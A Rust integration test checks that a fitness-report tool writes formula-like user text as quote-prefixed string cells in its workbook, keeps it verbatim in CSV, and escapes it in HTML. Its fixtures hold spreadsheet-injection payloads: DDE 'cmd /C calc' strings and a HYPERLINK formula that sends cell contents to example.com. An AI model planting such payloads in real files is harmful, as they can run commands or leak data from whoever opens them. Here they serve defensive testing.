//! Formula injection: user text (activity and gear names from an export or the gear log, a
//! diary's location, file names) that starts like a formula is never a formula a spreadsheet
//! runs. The workbook writes it as a string cell with Excel's quote prefix; the CSV keeps it
//! verbatim (docs/schema.md, "User text and formulas").

use std::collections::HashMap;
use std::path::Path;

use calamine::{open_workbook, Data, Reader, Xlsx};

use crate::support::fitwriter::{self, Activity};
use crate::support::*;
use crate::workbook::{read_xml, SHEETS};

const DAY: i64 = 86_400;

fn run_bytes(start: i64, serial: u32) -> Vec<u8> {
    let samples = steady_run(start, 20, 3.0, 170.0)
        .into_iter()
        .step_by(5)
        .collect();
    let mut a = Activity::running(start, samples);
    a.serial_number = serial;
    a.utc_offset_s = Some(0);
    fitwriter::encode_activity(&a)
}

/// Strava's date: `Apr 15, 2024, 8:00:00 AM`.
fn strava_date(unix: i64) -> String {
    chrono::DateTime::from_timestamp(unix, 0)
        .unwrap()
        .format("%b %-d, %Y, %-I:%M:%S %p")
        .to_string()
}

/// An RFC 4180 field.
fn quoted(s: &str) -> String {
    format!("\"{}\"", s.replace('"', "\"\""))
}

/// The cells of one CSV column.
fn csv_column(path: &Path, col: &str) -> Vec<String> {
    let mut r = csv::Reader::from_path(path).unwrap();
    let i = r.headers().unwrap().iter().position(|h| h == col).unwrap();
    r.records().map(|row| row.unwrap()[i].to_string()).collect()
}

const NAME_EQ: &str = "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")";
const NAME_AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const GEAR_PLUS: &str = "+Pegasus 40";
const GEAR_MINUS: &str = "-2+3 <i>trainers</i> & \"co\"";
const GEAR_LOG: &str = "=1+1 Kinvara";
const LOCATION: &str = "=cmd|' /C calc'!A0";
/// File names given as relative paths: the ledger's `source` starts with them.
const FILE_NAMES: [&str; 3] = ["=2+5.fit", "\tTab.fit", "\rReturn.fit"];

#[test]
fn user_text_that_starts_like_a_formula_is_a_quoted_string_cell_and_verbatim_in_the_csv() {
    let tmp = tempfile::tempdir().unwrap();
    let input = tmp.path().join("in");
    let (r1, r2, r3) = (T0, T0 + DAY, T0 + 2 * DAY);
    let head = "Activity ID,Activity Date,Activity Name,Activity Type,Activity Gear,Filename";
    let row = |id: u32, start: i64, name: &str, gear: &str| {
        format!(
            "{id},{},{},Run,{},activities/{id}.fit.gz",
            quoted(&strava_date(start)),
            quoted(name),
            quoted(gear)
        )
    };
    let csv = [
        head.to_string(),
        row(101, r1, NAME_EQ, GEAR_PLUS),
        row(102, r2, NAME_AT, GEAR_MINUS),
    ]
    .join("\n");
    write(
        &input,
        "export_1.zip",
        &zip(&[
            ("activities.csv", csv.as_bytes()),
            ("activities/101.fit.gz", &gzip(&run_bytes(r1, 501))),
            ("activities/102.fit.gz", &gzip(&run_bytes(r2, 502))),
        ]),
    );
    // A run only the gear log names, and runs in files with formula-like names.
    write(&input, "r3.fit", &run_bytes(r3, 503));
    for (i, name) in FILE_NAMES.iter().enumerate() {
        write(
            &input,
            name,
            &run_bytes(T0 + (3 + i as i64) * DAY, 510 + i as u32),
        );
    }
    // And a pair whose name is longer than a workbook cell holds (32,767 characters).
    write(&input, "r9.fit", &run_bytes(T0 + 9 * DAY, 509));
    let long = "=".repeat(40) + "long ".repeat(8_000).trim_end();
    let gear = write(
        tmp.path(),
        "gear.csv",
        format!(
            "gear,from,to\n{},2024-04-17,2024-04-17\n{},2024-04-24,2024-04-24\n",
            quoted(GEAR_LOG),
            quoted(&long)
        )
        .as_bytes(),
    );
    let diary = write(
        tmp.path(),
        "diary.csv",
        format!(
            "date,pain,next_morning,location,note\n2024-04-16,6,6,{},{}\n",
            quoted(LOCATION),
            quoted("=HYPERLINK(\"http://example.com\")")
        )
        .as_bytes(),
    );
    let out = tmp.path().join("out");
    let mut cmd = fitrisk();
    cmd.current_dir(&input)
        .args(["report", "--quiet", "--format", "csv,xlsx", "--gear"])
        .arg(&gear)
        .arg("--diary")
        .arg(&diary)
        .arg("-o")
        .arg(&out)
        .arg("export_1.zip")
        .arg("r3.fit")
        .arg("r9.fit")
        .args(FILE_NAMES);
    let result = cmd.output().unwrap();
    assert!(result.status.success(), "{result:?}");

    // The CSV: every name exactly as the source wrote it, no quote added.
    let names = csv_column(&out.join("activities.csv"), "name");
    assert!(names.contains(&NAME_EQ.to_string()), "{names:?}");
    assert!(names.contains(&NAME_AT.to_string()), "{names:?}");
    let gears = csv_column(&out.join("gear.csv"), "gear");
    for g in [GEAR_PLUS, GEAR_MINUS, GEAR_LOG, long.as_str()] {
        assert!(
            gears.contains(&g.to_string()),
            "{} in gear.csv",
            &g[..g.len().min(60)]
        );
    }
    let sources = csv_column(&out.join("files.csv"), "source");
    for f in FILE_NAMES {
        assert!(sources.contains(&f.to_string()), "{f:?} in {sources:?}");
    }
    let messages = csv_column(&out.join("findings.csv"), "message");
    assert!(
        messages
            .iter()
            .any(|m| m.contains(&format!("({LOCATION})"))),
        "{messages:?}"
    );

    // The workbook: no formula anywhere; every text that starts like one is a string cell with
    // the quote prefix, and reads back as the text itself.
    let xml = read_xml(&out.join("report.xlsx"));
    let mut book: Xlsx<_> = open_workbook(out.join("report.xlsx")).unwrap();
    let mut planted: HashMap<String, usize> = HashMap::new();
    for sheet in SHEETS {
        let range = book.worksheet_range(sheet).unwrap();
        for (&(r, c), cell) in &xml[sheet] {
            assert!(!cell.formula, "{sheet} {r},{c}: a formula {cell:?}");
            let Some(Data::String(text)) = range.get((r, c)) else {
                continue;
            };
            if text.starts_with(&long[..50]) {
                assert!(
                    text.encode_utf16().count() <= 32_767,
                    "{sheet} {r},{c}: too long"
                );
                *planted.entry("long".into()).or_default() += 1;
                assert!(long.starts_with(&text[..text.len() - '…'.len_utf8()]));
            }
            let formula_like = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
            if formula_like {
                assert!(
                    matches!(cell.t.as_deref(), Some("s" | "inlineStr")),
                    "{sheet} {r},{c}: {cell:?}"
                );
                assert!(
                    cell.quote_prefix,
                    "{sheet} {r},{c} {text:?}: no quote prefix"
                );
                *planted.entry(text.clone()).or_default() += 1;
            } else {
                assert!(!cell.quote_prefix, "{sheet} {r},{c} {text:?}: quoted");
            }
        }
    }
    // The page shows the names as text: escaped, never markup.
    let html = std::fs::read_to_string(out.join("report.html")).unwrap();
    let opts = roxmltree::ParsingOptions {
        allow_dtd: true,
        ..roxmltree::ParsingOptions::default()
    };
    let doc = roxmltree::Document::parse_with_options(&html, opts).expect("well-formed");
    assert!(
        doc.descendants()
            .any(|n| n.is_text() && n.text().is_some_and(|t| t.contains(GEAR_MINUS))),
        "{GEAR_MINUS} as text on the page"
    );
    assert!(!doc.descendants().any(|n| n.tag_name().name() == "i"));

    // The long name, cut to fit, in activities and gear (the workbook was written at all).
    assert_eq!(planted.get("long"), Some(&2), "{:?}", planted.keys());
    for want in [NAME_EQ, NAME_AT, GEAR_PLUS, GEAR_MINUS, GEAR_LOG]
        .into_iter()
        .chain(FILE_NAMES)
    {
        assert!(planted.contains_key(want), "{want:?} in {planted:?}");
    }
}
